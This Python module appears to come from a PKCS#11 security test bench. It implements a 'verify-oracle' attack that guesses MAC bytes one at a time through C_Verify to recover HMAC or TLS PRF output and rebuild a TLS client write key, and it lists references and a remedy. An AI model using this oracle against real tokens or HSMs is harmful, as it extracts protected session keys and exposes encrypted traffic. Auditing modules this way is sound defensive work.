"""verify-oracle: C_Verify of MACs of one, two, three … bytes says, byte by byte, what C_Sign would not be asked for."""

from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import replace
from functools import partial
from typing import Final

from keyfence.cryptoki import CryptokiError, Mechanism
from keyfence.cryptoki.constants import CKM, CKR
from keyfence.cryptoki.constants.vendor import CKM_NSS_TLS_PRF_GENERAL_SHA256
from keyfence.cryptoki.params import MacGeneral
from keyfence.schedule import Part, PrfHash

from .base import Attack, Bench, Technique
from .opening import secret_layout
from .oracle import OracleAttack, Way
from .victim import Kind, Victim

Build = Callable[[int], Mechanism]
"""The length of a MAC in bytes to the mechanism that verifies it."""

_SUITES: Final = ("TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256", "TLS_AES_128_GCM_SHA256")
"""Each byte takes 128 guesses of two calls on average, so that only a key at the start of the block is within reach."""


_LAST: Final = 255
_TRIAL: Final = 2


class VerifyOracle(Technique):
    id = "verify-oracle"
    title = "MACs told byte by byte"
    summary = (
        "Where C_Verify accepts a MAC of one byte, 256 guesses tell it; one of two bytes that begins with it tells the second, "
        "and so on to the whole HMAC, from which the PRF is rebuilt. CKM_*_HMAC_GENERAL takes its length from the caller; some "
        "modules also take short signatures for PRFs and plain HMACs. CKA_VERIFY is enough: nothing is signed."
    )
    section = "PKCS#11 3.2 §6.22 (CK_MAC_GENERAL_PARAMS: a length of 0 to the digest's)"
    references = ("RFC 2104 §5", "RFC 5246 §5", "RFC 8446 §7.1")
    remedy = (
        "No MAC under a TLS secret but CKM_TLS12_MAC of at least 12 bytes; CKA_ALLOWED_MECHANISMS honoured in C_VerifyInit."
    )
    standard = False
    kinds = frozenset({Kind.TLS12, Kind.TLS13, Kind.SEPARATED})
    suites = _SUITES

    def attacks(self, victim: Victim) -> Iterable[Attack]:
        hmac = victim.prf_hash.ckm_hmac
        yield VerifyHmacAttack(victim, int(CKM[f"{hmac.name}_GENERAL"]))
        yield VerifyHmacAttack(victim, int(hmac))
        if victim.kind is not Kind.TLS13 and victim.prf_hash is PrfHash.SHA256:
            yield VerifyPrfAttack(victim, CKM_NSS_TLS_PRF_GENERAL_SHA256)


class _VerifyAttack(OracleAttack):
    """The client's write key alone, which is the start of the stream."""

    key = "client write key"

    def __init__(self, victim: Victim, mechanism: int) -> None:
        super().__init__(victim, mechanism)
        self._most = self.target.prf_hash.digest_size
        if victim.kind is Kind.TLS12:
            _, stop = secret_layout(victim)[Part.CLIENT_KEY]
            self.target = replace(self.target, length=stop)

    def builds(self) -> Iterator[tuple[str, Build]]:
        """The ways to have a short MAC verified."""
        raise NotImplementedError

    def ways(self, bench: Bench) -> Sequence[Way]:
        return [
            Way(f"C_Verify({self.name}{text}) of 1, 2, 3 … bytes", partial(self._tell, bench, build))
            for text, build in self.builds()
        ]

    def trial(self, way: Way, secret: int) -> bytes:
        """Two bytes show as well as all of them that the guesses are answered."""
        self._most = _TRIAL
        try:
            return super().trial(way, secret)
        finally:
            self._most = self.target.prf_hash.digest_size

    def is_right(self, answer: bytes, secret: bytes) -> bool:
        return self.computed(secret).startswith(answer)

    def _tell(self, bench: Bench, build: Build, secret: int, data: bytes) -> bytes:
        """The value for `data`, as many bytes of it as are needed."""
        value = b""
        while len(value) < min(self._needed(data), self._most):
            value += self._next_byte(bench, build(len(value) + 1), secret, data, value)
        return value

    def _needed(self, data: bytes) -> int:
        """The whole of A(1), since it is fed back; of the stream's first block what the target takes."""
        feeds_back = data == self.target.input and not self.whole
        return self.target.prf_hash.digest_size if feeds_back else self.target.length

    def _next_byte(self, bench: Bench, mechanism: Mechanism, secret: int, data: bytes, known: bytes) -> bytes:
        """The byte after `known` that is accepted. Where none is, the module's answer to the last is its refusal."""
        session, module = bench.session.handle, bench.session.module
        for guess in range(256):
            module.verify_init(session, mechanism, secret)
            try:
                module.verify(session, data, known + bytes([guess]))
            except CryptokiError as error:
                if guess == _LAST or error.ckr == CKR.SIGNATURE_LEN_RANGE:
                    raise
                continue
            return bytes([guess])
        raise AssertionError("the last guess returns or raises")


class VerifyHmacAttack(_VerifyAttack):
    """HMAC of a length that the parameter says, or that the signature has."""

    def builds(self) -> Iterator[tuple[str, Build]]:
        if self.mechanism == self.target.prf_hash.ckm_hmac:
            yield "", lambda _length: Mechanism(self.mechanism)
        else:
            yield "", lambda length: Mechanism(self.mechanism, MacGeneral(length))


class VerifyPrfAttack(_VerifyAttack):
    """The PRF itself, which has no length of its own: the signature's is taken, or a parameter's."""

    whole = True

    def builds(self) -> Iterator[tuple[str, Build]]:
        yield "", lambda _length: Mechanism(self.mechanism)
        yield ", length in the parameter", lambda length: Mechanism(self.mechanism, MacGeneral(length))
